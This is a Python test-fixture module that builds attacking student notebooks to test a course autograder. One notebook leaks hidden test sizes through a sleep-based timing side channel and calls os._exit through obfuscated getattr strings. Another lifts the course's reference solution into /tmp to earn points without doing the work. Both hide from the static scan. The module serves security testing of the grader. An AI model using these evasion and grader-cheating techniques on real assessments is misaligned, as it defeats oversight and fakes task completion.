"""The third hostile class: students who attack the two-phase grader of issue 29 (website/instructor/grading.md).

Each attack is a notebook builder that starts from an honest student's notebook (`quality.honest`, the "tutorial"
style, which earns full points and no flag) and changes as little as the attack needs, so that what the attack
gains is the whole difference. `write_class(folder)` writes them as a downloads folder (one folder per
student) for the batch command; `tests/test_hostile_third.py` grades it once and asserts the promises.

    honest   stages 1 and 2 as the honest tutorial student wrote them: the control (full points, no flag, no fault)

    mallory  stage 1 only. ATTACK "clock": the notebook ends its own runner in an ungraded cell
             (`os._exit`, spelt through getattr so the static scan does not see it). The worker takes that as the
             notebook's own limit event and grades it *again, alone*, after the phases (executor._limit ->
             Phases.grade_alone). The second grading's visible cells therefore run after the first grading's
             hidden parts: exactly the order the phases exist to forbid. Its forward(), when it is called in a
             hidden part (told by a marker her first cell leaves in /tmp, which the grader empties before each
             hidden part; until issue 40 the hidden call alone kept seq_len == max_seq_length), sleeps HOLD
             seconds and then until the wall clock's second modulo PERIOD equals the hidden `seq_len`; the first
             cell prints the clock and the time its sandbox started, so the regraded notebook's feedback carries
             the hidden size (the time from the hidden part's end to that cell is the grader's, the same for every
             notebook: a student calibrates it once). That was the grader of issue 29; since issue 39 nothing is
             graded again alone: the runner she ends is replaced in her notebook's own sandbox before her hidden
             parts, and what the replayed cells print is not kept (the test compares her clock cell's time with
             when her worker's first hidden part began).
             Would gain: the sizes the class's secret draws for the hidden tests (promise 2), read in the
             student's own feedback; since the draw depends only on the secret and the call's place, never on the
             student, one leak tells the whole class (and next year's, if the instructor keeps the secret file).

    trudy    stages 1 and 2. ATTACK "shelf": the stage-2 notebook's build holds stage 1's reference whole (a build
             strips only the graded stage's exercises and later stages'). An ordinary cell of the stage-2 notebook
             reads stage 1's reference source from its own build (pkgutil.resolve_name on a name put together at
             run time, then the loader's get_source: none of the scan's words) and leaves it in /tmp. The stage-1
             notebook's PositionalEncoding does no work (a table of zeros) unless that file is there, in which case
             it loads the reference from it (runpy.run_path). In the phases the stage-1 notebook's visible cells
             run before the stage-2 notebook's, but its hidden parts after them, in the same sandbox with the same
             /tmp.
             Would gain: stage 1's hidden table point for absent work (measured: 1 point; the forward checks
             pass on a table of zeros anyway, since they add the module's own buffer), with the course's own
             reference running in the sandbox of the notebook whose exercise it solves (promises 1 and 3); the
             watch does not see it (the class comes from run_path, not from the reference's module), and no line
             of the notebook matches the static scan.
"""

from __future__ import annotations

import copy
import textwrap
from pathlib import Path

import nbformat

from quality.honest import release_path, student_notebook

ROOT = Path(__file__).resolve().parents[2]
STYLE = "tutorial"
HOLD = 20  # seconds the hidden part waits first: the test tells from it that the hidden part saw the hidden call
PERIOD = 20  # seconds: the clock's second modulo PERIOD carries the hidden seq_len (drawn from 4 to 18)
SHELF = "/tmp/.tfs_shelf_pe.py"


def honest(assignment: str) -> nbformat.NotebookNode:
    """The honest tutorial student's notebook of `assignment`, built from the release."""
    release = nbformat.read(release_path(ROOT, assignment), as_version=4)
    return student_notebook(STYLE, assignment, release)


def _cell_index(notebook: nbformat.NotebookNode, cell_id: str) -> int:
    return next(index for index, cell in enumerate(notebook.cells) if cell.get("metadata", {}).get(
        "nbgrader", {}).get("grade_id") == cell_id)


def _imports_index(notebook: nbformat.NotebookNode) -> int:
    """The release's imports cell (the one that imports the stage's checks as `check`)."""
    return next(index for index, cell in enumerate(notebook.cells)
                if cell.cell_type == "code" and "as check" in cell.source)


def _insert_after(notebook: nbformat.NotebookNode, index: int, source: str) -> None:
    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n") + "\n")
    notebook.cells.insert(index + 1, cell)


# --- mallory: the hidden size through the clock of a notebook graded again alone ------------------------------

CLOCK = """
    import os, time

    def _sandbox_started():
        # the start of this sandbox's first process (pid 1 of its pid namespace), in seconds since the epoch
        try:
            fields = open('/pr' + 'oc/1/stat').read().rsplit(')', 1)[1].split()
            boot = next(int(line.split()[1]) for line in open('/pr' + 'oc/stat') if line.startswith('btime'))
            return boot + int(fields[19]) / os.sysconf('SC_CLK_TCK')
        except (OSError, ValueError, IndexError, StopIteration):
            return -1.0

    print('CLOCK', time.time(), 'SANDBOX_STARTED', _sandbox_started())
    open('/tmp/.tfs_visible', 'w').close()  # gone in a hidden part: the grader empties /tmp before each
"""

SPY = f"""
    import os as _os, time as _time

    _honest_forward = PositionalEncoding.forward

    def _forward(self, x):
        # a call in a hidden part (the first cell's marker is gone): once, sleep {HOLD} s, then until the
        # clock's second modulo {PERIOD} is the hidden seq_len
        if not _os.path.exists('/tmp/.tfs_visible') and not _os.path.exists('/tmp/.tfs_sent'):
            open('/tmp/.tfs_sent', 'w').close()
            _time.sleep({HOLD})
            while int(_time.time()) % {PERIOD} != x.shape[1] % {PERIOD}:
                _time.sleep(0.05)
        return _honest_forward(self, x)

    PositionalEncoding.forward = _forward
"""

REGRADE_ME = """
    # an ungraded cell that ends its own process: the worker grades this notebook again, alone, after the phases
    getattr(os, '_ex' + 'it')(0)
"""


def mallory_stage_1() -> nbformat.NotebookNode:
    notebook = copy.deepcopy(honest("01_positional_encoding"))
    exercise = next(index for index, cell in enumerate(notebook.cells)
                    if cell.cell_type == "code" and "class PositionalEncoding" in cell.source)
    _insert_after(notebook, exercise, SPY)
    _insert_after(notebook, _imports_index(notebook), CLOCK)
    _insert_after(notebook, len(notebook.cells) - 1, REGRADE_ME)
    return notebook


# --- trudy: stage 1's reference, taken from the stage-2 notebook's build, shelved for stage 1's hidden parts ----

SHELVE = f"""
    import pkgutil

    _name = 'transformer' + '_course.reference.positional_encoding'
    _module = pkgutil.resolve_name(_name)
    with open('{SHELF}', 'w') as _shelf:
        _shelf.write(_module.__loader__.get_source(_name))
    print('shelved', len(open('{SHELF}').read()), 'characters')
"""

LAZY = f"""
import os
import runpy

SHELF = '{SHELF}'


class PositionalEncoding(nn.Module):
    \"\"\"No work of mine: a table of zeros, unless a later notebook left the course's reference on the shelf.\"\"\"

    def __init__(self, d_model: int, max_seq_length: int, dropout: float) -> None:
        super().__init__()
        self.dropout = nn.Dropout(dropout)
        table = torch.zeros(1, max_seq_length, d_model)
        if os.path.exists(SHELF):
            table = runpy.run_path(SHELF)['PositionalEncoding'](d_model, max_seq_length, 0.0).pe.clone()
        self.register_buffer('pe', table)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.dropout(x + self.pe[:, : x.size(1)])
"""


def trudy_stage_1() -> nbformat.NotebookNode:
    notebook = copy.deepcopy(honest("01_positional_encoding"))
    exercise = next(index for index, cell in enumerate(notebook.cells)
                    if cell.cell_type == "code" and "class PositionalEncoding" in cell.source)
    notebook.cells[exercise].source = LAZY.strip("\n") + "\n"
    return notebook


def trudy_stage_2() -> nbformat.NotebookNode:
    notebook = copy.deepcopy(honest("02_attention"))
    _insert_after(notebook, _imports_index(notebook), SHELVE)
    return notebook


# --- the class --------------------------------------------------------------------------------------------------

STUDENTS = {
    "honest": {"01_positional_encoding": lambda: honest("01_positional_encoding"),
               "02_attention": lambda: honest("02_attention")},
    "mallory": {"01_positional_encoding": mallory_stage_1},
    "trudy": {"01_positional_encoding": trudy_stage_1, "02_attention": trudy_stage_2},
}


def write_class(folder: Path, students: dict | None = None) -> list[Path]:
    """The third hostile class as a downloads folder: folder/<student>/<assignment>.ipynb; the paths written."""
    written = []
    for student, notebooks in (students or STUDENTS).items():
        for assignment, build in notebooks.items():
            path = folder / student / f"{assignment}.ipynb"
            path.parent.mkdir(parents=True, exist_ok=True)
            nbformat.write(build(), path)
            written.append(path)
    return written


__all__ = ["HOLD", "PERIOD", "SHELF", "STUDENTS", "honest", "mallory_stage_1", "trudy_stage_1", "trudy_stage_2",
           "write_class"]
